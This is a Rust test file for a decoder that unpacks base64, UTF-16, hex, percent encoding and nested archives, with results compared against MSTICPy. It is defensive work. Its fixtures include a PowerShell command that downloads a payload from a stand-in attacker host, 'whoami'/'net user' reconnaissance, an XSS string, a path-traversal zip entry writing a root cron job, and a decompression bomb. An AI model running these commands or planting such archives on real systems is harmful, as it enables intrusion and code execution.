//! What is found in encoded text: against MSTICPy's findings, and in the cases that it gets wrong.

use std::{
    fs,
    io::{Cursor, Write as _},
    path::Path,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::{Compression, write::DeflateEncoder, write::GzEncoder, write::ZlibEncoder};
use proptest::prelude::*;
use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;

fn found(text: &str) -> Vec<Layer> {
    decode(text, Options::default()).layers
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    STANDARD.encode(bytes)
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn texts(layers: &[Layer]) -> Vec<&str> {
    layers
        .iter()
        .filter_map(|layer| match &layer.content {
            Content::Text(_, text) => Some(text.as_str()),
            _ => None,
        })
        .collect()
}

fn outcomes(layers: &[Layer]) -> Vec<&str> {
    layers.iter().map(|layer| layer.outcome.as_str()).collect()
}

fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const COMMAND: &str = "Invoke-WebRequest http://evil.example.com/payload.exe -OutFile a.exe";

#[test]
fn base64_in_base64_has_the_digests_that_the_oracle_says() {
    let inner = b64(COMMAND);
    let text = format!("cmd /c {} end", b64(format!("powershell -enc {inner}")));
    let decoded = decode(&text, Options::default());
    let layers = &decoded.layers;
    let said: Vec<_> = layers
        .iter()
        .map(|layer| (layer.index.as_str(), layer.depth, layer.digests.as_ref().unwrap().md5.as_str()))
        .collect();
    assert_eq!(said, [("1", 1, "3dc1502f5472e07062fc1584244504b1"), ("1.1", 2, "5a78e3583c8bea3a069b7b9edd05e910")]);
    assert_eq!((layers[1].parent, layers[1].original.as_deref()), (Some(0), Some(inner.as_str())));
    assert_eq!(layers[0].range, Some(7..text.len() - 4));
    assert_eq!(decoded.text.unwrap(), format!("cmd /c powershell -enc {COMMAND} end"));
}

#[test]
fn the_shared_data_holds_what_the_golden_files_say() {
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    for file in ["base64msg.txt", "b64text_inzip.txt"] {
        let Ok(text) = fs::read_to_string(here.join("../../../shared/data").join(file)) else {
            eprintln!("skipped: {file} is not here");
            return;
        };
        let golden = fs::read_to_string(here.join("golden/decode").join(file)).unwrap();
        let found: Vec<_> =
            found(&text).iter().filter_map(|layer| layer.digests.as_ref().map(|digests| digests.md5.clone())).collect();
        for line in golden.lines() {
            assert!(found.iter().any(|md5| md5 == line), "{file}: {line} is not among {found:#?}");
        }
    }
}

#[test]
fn a_compressed_member_of_an_archive_is_opened_too() {
    // MSTICPy leaves `txtenc.txt.gz` as bytes.
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/base64msg.txt");
    let Ok(text) = fs::read_to_string(path) else {
        eprintln!("skipped: base64msg.txt is not here");
        return;
    };
    let layers = found(&text);
    let is_gzip = |layer: &&Layer| layer.member.as_deref() == Some("txtenc.txt.gz");
    let gzip = layers.iter().position(|layer| is_gzip(&layer)).unwrap();
    assert_eq!(layers[gzip].file_type, Some(FileType::Gzip));
    assert!(layers.iter().any(|layer| layer.parent == Some(gzip) && matches!(layer.content, Content::Text(..))));
    assert_eq!(layers.iter().filter(is_gzip).count(), 2, "one in the tar archive, one in the zip archive");
    assert!(texts(&layers).contains(&"text\r\nfile\r\n"), "{:?}", texts(&layers));
}

#[test]
fn text_of_powershell_is_utf_16() {
    let text = format!("powershell.exe -NoP -enc {} -w hidden", b64(utf16("Write-Host 'hello'; dir")));
    let layers = found(&text);
    assert_eq!(layers[0].content, Content::Text(Encoding::Utf16, "Write-Host 'hello'; dir".into()));
}

#[test]
fn streams_in_base64_are_unpacked() {
    let mut deflate = DeflateEncoder::new(Vec::new(), Compression::best());
    deflate.write_all(COMMAND.as_bytes()).unwrap();
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
    zlib.write_all(COMMAND.as_bytes()).unwrap();
    for (bytes, file_type) in [
        (deflate.finish().unwrap(), FileType::Deflate),
        (zlib.finish().unwrap(), FileType::Zlib),
        (gzipped(COMMAND.as_bytes()), FileType::Gzip),
        (zstd::encode_all(COMMAND.as_bytes(), 3).unwrap(), FileType::Zstd),
    ] {
        let text = format!("[IO.MemoryStream][Convert]::FromBase64String('{}')", b64(bytes));
        let decoded = decode(&text, Options::default());
        assert_eq!(texts(&decoded.layers), [COMMAND], "{file_type:?}");
        assert_eq!(decoded.layers[0].file_type, Some(file_type));
        assert_eq!(decoded.layers[1].packing, Packing::Member(file_type));
        assert!(decoded.text.unwrap().contains(COMMAND), "{file_type:?}");
    }
}

#[test]
fn archives_in_archives_are_opened() {
    let inner = zipped(&[("b.txt", b"the inner text")]);
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(inner.len() as u64);
    header.set_cksum();
    builder.append_data(&mut header, "a/inner.zip", inner.as_slice()).unwrap();
    let text = b64(gzipped(&builder.into_inner().unwrap()));
    let layers = found(&text);
    let path: Vec<_> =
        layers.iter().map(|layer| (layer.index.as_str(), layer.packing.as_str(), layer.member.as_deref())).collect();
    assert_eq!(
        path,
        [
            ("1", "base64", None),
            ("1.1", "gzip", None),
            ("1.1.1", "tar", Some("a/inner.zip")),
            ("1.1.1.1", "zip", Some("b.txt")),
        ]
    );
    assert_eq!(texts(&layers), ["the inner text"]);
}

#[test]
fn hex_and_percent_encoding_are_undone() {
    let hex = hex::encode("whoami /all & net user");
    let escaped: String = "calc.exe".bytes().map(|b| format!("\\x{b:02x}")).collect();
    let url = "q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E";
    for (text, expected) in [
        (format!("echo {hex} | xxd"), "whoami /all & net user"),
        (format!("0x{hex}"), "whoami /all & net user"),
        (format!("print '{escaped}'"), "calc.exe"),
        (url.to_owned(), "q=<script>alert(1)</script>"),
    ] {
        assert_eq!(texts(&found(&text)), [expected], "{text}");
    }
    let query = format!("GET /?d={}", b64(COMMAND).replace('=', "%3D").replace('+', "%2B"));
    assert!(texts(&found(&query)).contains(&COMMAND), "base64 in a query string");
}

#[test]
fn short_tokens_need_a_sign() {
    assert_eq!(texts(&found("aGVsbG8gd29ybGQ=")), ["hello world"]);
    assert_eq!(texts(&found(" aGVsbG8=\n")), ["hello"]);
    assert_eq!(texts(&found("say aGVsbG8gd29ybGQ= now")), ["hello world"]);
    assert_eq!(texts(&found("https://host.example/aHR0cHM6Ly9ldmlsLmV4YW1wbGUuY29tL2E/b")), Vec::<&str>::new());
    assert_eq!(
        texts(&found("https://host.example/p/aHR0cHM6Ly9ldmlsLmV4YW1wbGUuY29tL2E")),
        ["https://evil.example.com/a"]
    );
}

#[test]
fn what_is_no_code_is_left_alone() {
    for text in [
        "",
        "the quick brown fox jumps over the lazy dog and runs away",
        "/usr/lib/x86_64-linux-gnu/libraries/of/all/kinds/and/sorts/with/long/paths/indeed",
        "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "AuthenticationContextClassReferences MicrosoftWindowsSecurityAuditing",
        "alpha\nbeta\ngamma\ndelta\nepsilon\nzeta\neta\ntheta",
        "a-very-long-name-of-a-resource-group-in-some-cloud-region-of-the-west",
        "20190625192438017000 4111111111111111 7240233554252222",
        "https://example.org/a%20b?c=d%20e",
        "C:\\xampp\\xml\\x64\\x86",
        "password123=",
        "testtest",
        "TenantId=52b1ab41-869e-4138-9e40-2a4457f09bf0",
    ] {
        let layers = found(text);
        assert_eq!(layers, [], "{text}");
    }
}

#[test]
fn the_whole_text_is_not_padded() {
    // MSTICPy pads a whole text with `A`, which then stand at its end.
    let decoded = decode(&format!("x {} yz", b64(COMMAND)), Options::default());
    assert_eq!(decoded.text.unwrap(), format!("x {COMMAND} yz"));
}

#[test]
fn wrapped_base64_is_one_token() {
    let token = b64(vec![b'a'; 300]);
    let wrapped: Vec<_> = token.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
    for end in ["\n", "\r\n"] {
        let text = format!("-----BEGIN-----{end}{}{end}-----END-----", wrapped.join(end));
        assert_eq!(texts(&found(&text)), ["a".repeat(300)], "{end:?}");
        let followed = format!("data:{end}{}{end}and so on", wrapped.join(end));
        assert_eq!(texts(&found(&followed)), ["a".repeat(300)], "{end:?}");
    }
}

#[test]
fn bombs_are_not_unpacked() {
    let bomb = b64(gzipped(&vec![0; 50 << 20]));
    let layers = found(&bomb);
    assert_eq!(outcomes(&layers), ["decoded", "ratio_exceeded"]);
    let large = Options { max_ratio: usize::MAX, max_bytes: 1 << 20, ..Options::default() };
    assert_eq!(outcomes(&decode(&bomb, large).layers), ["decoded", "too_large"]);
    let zeros = vec![0; 50 << 20];
    let zip = b64(zipped(&[("zeros", zeros.as_slice()), ("small.txt", b"still here, as a text")]));
    let layers = found(&zip);
    assert_eq!(outcomes(&layers), ["decoded", "ratio_exceeded", "decoded"]);
    assert_eq!(texts(&layers), ["still here, as a text"]);
}

#[test]
fn layers_end_at_the_limit_and_say_so() {
    let mut text = COMMAND.to_owned();
    for _ in 0..4 {
        text = b64(&text);
    }
    let layers = decode(&text, Options { max_depth: 2, ..Options::default() }).layers;
    assert_eq!(outcomes(&layers), ["decoded", "decoded", "too_deep"]);
    assert!(layers[2].content == Content::None && layers[2].original.is_some());
    let many = format!("{} {} {}", b64(COMMAND), b64(COMMAND), b64(COMMAND));
    let decoded = decode(&many, Options { max_layers: 2, ..Options::default() });
    assert_eq!((decoded.layers.len(), decoded.truncated), (2, true));
}

#[test]
fn names_that_lead_elsewhere_are_said() {
    let names = b64(zipped(&[("../../etc/cron.d/x", b"* * * * * root sh"), ("ok.txt", b"a text that is fine")]));
    let layers = found(&names);
    assert_eq!(outcomes(&layers), ["decoded", "unsafe_name", "decoded"]);
    assert_eq!(layers[1].member.as_deref(), Some("../../etc/cron.d/x"));
    assert_eq!(texts(&layers).len(), 2, "the content is there all the same");
}

#[test]
fn broken_archives_are_said() {
    let mut zip = zipped(&[("a.txt", b"some text that is long enough to be cut in the middle")]);
    zip.truncate(60);
    assert_eq!(outcomes(&found(&b64(&zip))), ["corrupt"]);
    let mut gzip = gzipped(&(0..2_000_u32).flat_map(u32::to_le_bytes).collect::<Vec<_>>());
    gzip.truncate(200);
    assert_eq!(outcomes(&found(&b64(&gzip))), ["decoded", "corrupt"]);
}

#[test]
fn limits_hold_for_all_texts_together() {
    let mut decoder = Decoder::new(Options { max_layers: 1, ..Options::default() });
    assert_eq!(decoder.decode(&b64(COMMAND)).layers.len(), 1);
    let second = decoder.decode(&b64(COMMAND));
    assert_eq!((second.layers.len(), second.truncated), (0, true));
}

proptest! {
    #[test]
    fn text_in_base64_comes_back(text in "[ -~]{24,200}", before in "[ .,:;(]{1,9}", after in "[ .,:;)]{1,9}") {
        let layers = found(&format!("{before}{}{after}", b64(&text)));
        prop_assert_eq!(texts(&layers).into_iter().next(), Some(text.as_str()));
    }

    #[test]
    fn no_text_breaks_it(text in any::<String>()) {
        let _ = found(&text);
    }

    #[test]
    fn no_digits_break_it(text in "[A-Za-z0-9+/=\r\n_%x\\\\-]{0,200}") {
        let _ = found(&text);
    }

    #[test]
    fn no_bytes_break_it(bytes in prop::collection::vec(any::<u8>(), 40..400), which in 0..6_usize) {
        let beginning: &[u8] = [&b"PK\x03\x04"[..], b"\x1f\x8b\x08\x00", b"\x28\xb5\x2f\xfd", b"x\x9c", b"MZ", b""][which];
        let _ = found(&b64([beginning, &bytes].concat()));
    }
}
